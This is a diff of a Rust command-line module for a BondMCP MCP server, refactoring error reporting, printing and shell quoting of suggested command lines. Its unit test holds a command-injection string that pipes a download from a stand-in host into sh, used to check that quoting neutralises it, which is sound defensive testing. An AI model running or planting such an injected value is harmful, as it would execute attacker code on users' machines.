@@ -1,4 +1,4 @@
-//! The command line: one file a subcommand. Here are the flags they share and what every one of them is made of.
+//! The command line: one file a subcommand. This file has the flags that they share, and runs them.
 #![allow(
     clippy::doc_markdown,
     reason = "doc comments of arguments are help texts, where backticks would show"
@@ -6,10 +6,13 @@
 
 mod audit;
 mod demo;
+mod error;
 mod http;
 mod keys;
 mod login;
 mod logout;
+mod printer;
+mod process;
 mod prompt;
 mod register;
 mod sandbox;
@@ -19,23 +22,24 @@ mod status;
 mod stdio;
 mod stop;
 
-use std::{io::Write as _, path::PathBuf, pin::Pin, process::ExitCode};
+use std::{borrow::Cow, path::PathBuf, pin::Pin, process::ExitCode};
 
 use clap::{Parser, Subcommand};
 use tracing::level_filters::LevelFilter;
 
+pub use self::process::forbid_core_dumps;
+use self::{error::Error, printer::Printer};
 use crate::{
-    account::{self, Account},
+    account::Account,
     bondmcp::{Client, Timing},
     clock::Clock,
-    config::{ConfigError, DEFAULT_BASE_URL, Flags, Settings, default_data_dir},
-    error::Report,
+    config::{ConfigError, DEFAULT_BASE_URL, Flags, Profile, Settings, default_data_dir},
     redact::Redactor,
     telemetry::{self, LogFormat},
 };
 
-/// Plug BondMCP, a health-AI API, into Claude Desktop, Claude Code, Cursor or any other MCP host. You sign in once,
-/// here, outside the chat; the agent gets results and never sees a password, a token or an API key.
+/// Connects BondMCP, a health-AI API, to Claude Desktop, Claude Code, Cursor or any other MCP host. You sign in once,
+/// outside the chat; the agent gets results and never sees a password, a token or an API key.
 #[derive(Debug, Parser)]
 #[command(name = "bondmcp-server", version, max_term_width = 100, after_help = EXAMPLES)]
 pub struct Cli {
@@ -47,30 +51,31 @@ pub struct Cli {
 
 const EXAMPLES: &str = "\
 First steps:
-  bondmcp-server demo                  see it at work, offline
-  bondmcp-server login                 sign in (the password is asked for, never echoed)
-  bondmcp-server stdio                 what a host runs; see mcp.json.example
-  bondmcp-server stdio --sandbox       the same against an embedded BondMCP, offline
+  bondmcp-server demo              offline end-to-end demo
+  bondmcp-server login             sign in; the password is never echoed
+  bondmcp-server stdio             what your MCP host runs; see mcp.json.example
+  bondmcp-server stdio --sandbox   the same, with an embedded BondMCP, offline
 
 Environment: BONDMCP_BASE_URL, BONDMCP_API_KEY, BONDMCP_EMAIL and BONDMCP_PASSWORD, BONDMCP_PROFILE,
 BONDMCP_DATA_DIR, BONDMCP_LOG, BONDMCP_VAULT, BONDMCP_SEALING_KEY or BONDMCP_SEALING_KEY_FILE,
-BONDMCP_HTTP_TOKEN. Flags outrank them. Exit codes: 0 fine, 1 failed, 2 wrong usage.";
+BONDMCP_HTTP_TOKEN. Flags override them. Exit codes: 0 success, 1 failure, 2 usage error.";
 
 #[derive(Debug, clap::Args)]
+#[command(next_help_heading = "Global options")]
 struct Global {
-    /// The local account to use, so that one person can have several [default: default]
+    /// The local account, for people with several [default: default]
     #[arg(long, global = true, value_name = "NAME")]
     profile: Option<String>,
     /// The BondMCP API; https, or http on loopback
     #[arg(long, global = true, value_name = "URL", long_help = base_url_help())]
     base_url: Option<String>,
-    /// Where the vault is kept [default: the platform's data directory]
+    /// Where the vault is stored [default: the platform's data directory]
     #[arg(long, global = true, value_name = "DIR")]
     data_dir: Option<PathBuf>,
-    /// What is logged to stderr: off, error, warn, info, debug or trace [default: warn]
+    /// Log level on stderr: off, error, warn, info, debug or trace [default: warn]
     #[arg(long, global = true, value_name = "LEVEL")]
     log: Option<LevelFilter>,
-    /// How it is logged
+    /// Log format
     #[arg(long, global = true, value_enum, default_value_t)]
     log_format: LogFormat,
 }
@@ -81,7 +86,7 @@ fn base_url_help() -> String {
 
 #[derive(Debug, Subcommand)]
 enum Command {
-    /// Serve MCP over stdin and stdout, for a host on this machine
+    /// Serve MCP over stdin and stdout; your MCP host runs this
     Stdio(stdio::Args),
     /// Serve MCP over streamable HTTP
     Http(http::Args),
@@ -89,107 +94,108 @@ enum Command {
     Login(login::Args),
     /// Create a BondMCP account
     Register(register::Args),
-    /// Sign out, and forget the credentials
+    /// Sign out and delete the stored credentials
     Logout(logout::Args),
-    /// Tell who is signed in, how and until when
+    /// Show who is signed in
     Status(status::Args),
-    /// Tell which tools were called, by whom and how that ended
+    /// Show which tools were called, by whom and with which outcome
     Audit(audit::Args),
-    /// List, create, rotate, revoke, choose and use API keys
+    /// Manage and use API keys
     #[command(subcommand)]
     Keys(keys::Command),
-    /// Serve an embedded BondMCP API on loopback
+    /// Serve an embedded BondMCP API on loopback, for trying things out
     Sandbox(sandbox::Args),
-    /// See everything at work offline, with a real MCP client
+    /// Run the offline end-to-end demo, with a real MCP client
     Demo(demo::Args),
-}
-
-impl Command {
-    /// Whether it does without a data directory, and so without a home.
-    fn keeps_nothing(&self) -> bool {
-        matches!(self, Self::Sandbox(_) | Self::Demo(_))
-    }
-}
-
-/// Why a command ends with another code than 0.
-#[derive(Debug)]
-enum Failed {
-    /// Wrong usage or configuration.
-    Usage(String),
-    /// It did not work out.
-    Other(anyhow::Error),
-    /// A child ended with this code.
-    Child(u8),
-}
-
-impl From<account::Error> for Failed {
-    fn from(error: account::Error) -> Self {
-        Self::Other(Report::from(&error).into())
-    }
-}
-
-impl From<ConfigError> for Failed {
-    fn from(error: ConfigError) -> Self {
-        Self::Usage(error.to_string())
-    }
 }
 
 /// What a command works with.
 struct App {
     settings: Settings,
+    printer: Printer,
     redactor: Redactor,
     clock: Clock,
 }
+
+/// The command's outcome. Boxed, or the type of one future would hold those of all commands.
+type Outcome = Pin<Box<dyn Future<Output = Result<(), Error>>>>;
 
 impl Cli {
     /// Runs the command and gives the process's exit code.
     pub async fn run(self) -> ExitCode {
         let redactor = Redactor::default();
-        match self.start(redactor.clone()).await {
+        let printer = Printer::new(redactor.clone());
+        match self.start(redactor, printer.clone()).await {
             Ok(()) => ExitCode::SUCCESS,
-            Err(Failed::Child(code)) => code.into(),
-            Err(Failed::Usage(message)) => complain(&redactor, &message, 2),
-            Err(Failed::Other(error)) => complain(&redactor, &error.to_string(), 1),
+            Err(Error::Child(code)) => code.into(),
+            Err(Error::Cancelled) => {
+                printer.print_err("Cancelled.");
+                ExitCode::FAILURE
+            }
+            Err(Error::Usage(message)) => {
+                printer.print_error(message);
+                ExitCode::from(2)
+            }
+            Err(Error::Failed(error)) => {
+                tracing::debug!(causes = format!("{error:#}"), "the command failed");
+                printer.print_error(&error);
+                ExitCode::FAILURE
+            }
         }
     }
 
-    async fn start(self, redactor: Redactor) -> Result<(), Failed> {
+    async fn start(self, redactor: Redactor, printer: Printer) -> Result<(), Error> {
         telemetry::init(self.global.log_level()?, self.global.log_format, redactor.clone());
-        let settings = self.global.settings(self.command.keeps_nothing())?;
-        let app = App { settings, redactor, clock: Clock::system() };
-        // Boxed, or the type of this one future would hold those of them all.
-        let command: Pin<Box<dyn Future<Output = Result<(), Failed>>>> = match self.command {
-            Command::Stdio(args) => Box::pin(args.run(app)),
-            Command::Http(args) => Box::pin(args.run(app)),
-            Command::Login(args) => Box::pin(args.run(app)),
-            Command::Register(args) => Box::pin(args.run(app)),
-            Command::Logout(args) => Box::pin(args.run(app)),
-            Command::Status(args) => Box::pin(args.run(app)),
-            Command::Audit(args) => Box::pin(async move { args.run(&app) }),
-            Command::Keys(command) => Box::pin(command.run(app)),
-            Command::Sandbox(args) => Box::pin(args.run(app)),
-            Command::Demo(args) => Box::pin(args.run(app)),
+        let clock = Clock::system();
+        let app = || {
+            let settings = self.global.settings()?;
+            Ok::<_, Error>(App { settings, printer: printer.clone(), redactor, clock: clock.clone() })
         };
-        command.await
+        let outcome: Outcome = match self.command {
+            Command::Stdio(args) => Box::pin(args.run(app()?)),
+            Command::Http(args) => Box::pin(args.run(app()?)),
+            Command::Login(args) => Box::pin(args.run(app()?)),
+            Command::Register(args) => Box::pin(args.run(app()?)),
+            Command::Logout(args) => Box::pin(args.run(app()?)),
+            Command::Status(args) => Box::pin(args.run(app()?)),
+            Command::Audit(args) => Box::pin(std::future::ready(args.run(&app()?))),
+            Command::Keys(command) => Box::pin(command.run(app()?)),
+            // These two need neither a data directory nor anything from the environment.
+            Command::Sandbox(args) => Box::pin(args.run(printer, clock)),
+            Command::Demo(args) => Box::pin(args.run(printer, clock)),
+        };
+        outcome.await
     }
 }
 
+/// Prints why the process cannot go on; the exit code.
+#[must_use]
+pub fn exit_with_error(message: impl std::fmt::Display) -> ExitCode {
+    Printer::default().print_error(message);
+    ExitCode::FAILURE
+}
+
+/// Prints what the operator should know, although the process goes on.
+pub fn warn(message: impl std::fmt::Display) {
+    Printer::default().print_err(format_args!("warning: {message}"));
+}
+
 impl Global {
-    fn log_level(&self) -> Result<LevelFilter, Failed> {
+    fn log_level(&self) -> Result<LevelFilter, Error> {
         match (self.log, std::env::var("BONDMCP_LOG")) {
             (Some(level), _) => Ok(level),
             (None, Ok(level)) if !level.is_empty() => level.parse().map_err(|_| {
-                Failed::Usage("BONDMCP_LOG must be off, error, warn, info, debug or trace".to_owned())
+                Error::Usage("BONDMCP_LOG must be off, error, warn, info, debug or trace".to_owned())
             }),
             _ => Ok(LevelFilter::WARN),
         }
     }
 
-    fn settings(&self, keeps_nothing: bool) -> Result<Settings, ConfigError> {
+    fn settings(&self) -> Result<Settings, ConfigError> {
         let flags = Flags {
             base_url: self.base_url.clone(),
             profile: self.profile.clone(),
-            data_dir: self.data_dir.clone().or_else(|| keeps_nothing.then(std::env::temp_dir)),
+            data_dir: self.data_dir.clone(),
         };
         Settings::load(flags, default_data_dir(), |name| std::env::var_os(name))
     }
@@ -203,70 +209,53 @@ impl App {
             self.clock.clone(),
             Timing::default(),
         );
-        Account::new(
-            &self.settings,
-            command_line(&self.settings),
-            client,
-            self.clock.clone(),
-            self.redactor.clone(),
-        )
+        Account::new(&self.settings, self.command_line(), client, self.clock.clone(), self.redactor.clone())
+    }
+
+    /// How this program is called for the same account from a terminal.
+    fn command_line(&self) -> String {
+        let settings = &self.settings;
+        let program = std::env::args_os().next().unwrap_or_else(|| env!("CARGO_PKG_NAME").into());
+        let mut words = vec![shell_word(&program.to_string_lossy()).into_owned()];
+        let mut flag =
+            |name: &str, value: &str| words.extend([name.to_owned(), shell_word(value).into_owned()]);
+        if settings.profile != Profile::default() {
+            flag("--profile", settings.profile.as_str());
+        }
+        if settings.base_url.as_str() != DEFAULT_BASE_URL {
+            flag("--base-url", settings.base_url.as_str());
+        }
+        if Some(&settings.data_dir) != default_data_dir().as_ref() {
+            flag("--data-dir", &settings.data_dir.to_string_lossy());
+        }
+        words.join(" ")
     }
 }
 
-/// Looks into what an earlier process has left unfinished while the server is already answering.
+/// Checks for API key changes that an earlier process left unfinished, while the server is already answering.
 fn reconcile_in_background(account: &Account) {
     let account = account.clone();
     tokio::spawn(async move {
         if let Err(error) = account.reconcile().await {
-            tracing::info!(%error, "unfinished API key changes were not looked into");
+            tracing::info!(%error, "interrupted API key changes could not be checked");
         }
     });
 }
 
-/// How this program is called for the same account from a terminal.
-fn command_line(settings: &Settings) -> String {
-    let program = std::env::args_os().next().unwrap_or_else(|| env!("CARGO_PKG_NAME").into());
-    let mut words = vec![program.to_string_lossy().into_owned()];
-    if settings.profile.as_str() != "default" {
-        words.push(format!("--profile {}", settings.profile));
-    }
-    if settings.base_url.as_str() != DEFAULT_BASE_URL {
-        words.push(format!("--base-url {}", settings.base_url));
-    }
-    if Some(&settings.data_dir) != default_data_dir().as_ref() {
-        words.push(format!("--data-dir {}", quoted(&settings.data_dir.to_string_lossy())));
-    }
-    words.join(" ")
+/// `word` as a POSIX shell reads it: for command lines that are offered for pasting.
+fn shell_word(word: &str) -> Cow<'_, str> {
+    // A word that holds a NUL is nothing that a shell can be given.
+    shlex::try_quote(word).unwrap_or_default()
 }
 
-/// A word for a POSIX shell.
-fn quoted(word: &str) -> String {
-    let plain = |c: char| c.is_alphanumeric() || "/._-+:~\\".contains(c);
-    if !word.is_empty() && word.chars().all(plain) {
-        word.to_owned()
-    } else {
-        format!("'{}'", word.replace('\'', r"'\''"))
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn an_id_that_holds_a_command_is_one_word_of_the_shell() {
+        let id = "key_1;curl evil|sh #'$(id)`";
+        assert_eq!(shlex::split(&format!("run {} --", shell_word(id))).unwrap(), ["run", id, "--"]);
+        assert_eq!(shell_word("key_1"), "key_1");
     }
-}
-
-fn complain(redactor: &Redactor, message: &str, code: u8) -> ExitCode {
-    let _ = writeln!(std::io::stderr(), "error: {}", redactor.redact(message));
-    code.into()
-}
-
-/// A line on stdout. That nobody reads it any more is no error.
-fn say(line: impl std::fmt::Display) {
-    let _ = writeln!(std::io::stdout(), "{line}");
-}
-
-fn say_json(value: &impl serde::Serialize) {
-    match serde_json::to_string_pretty(value) {
-        Ok(json) => say(json),
-        Err(error) => tell(error),
-    }
-}
-
-/// A line on stderr for the person, in commands whose stdout is not theirs.
-fn tell(line: impl std::fmt::Display) {
-    let _ = writeln!(std::io::stderr(), "{line}");
 }
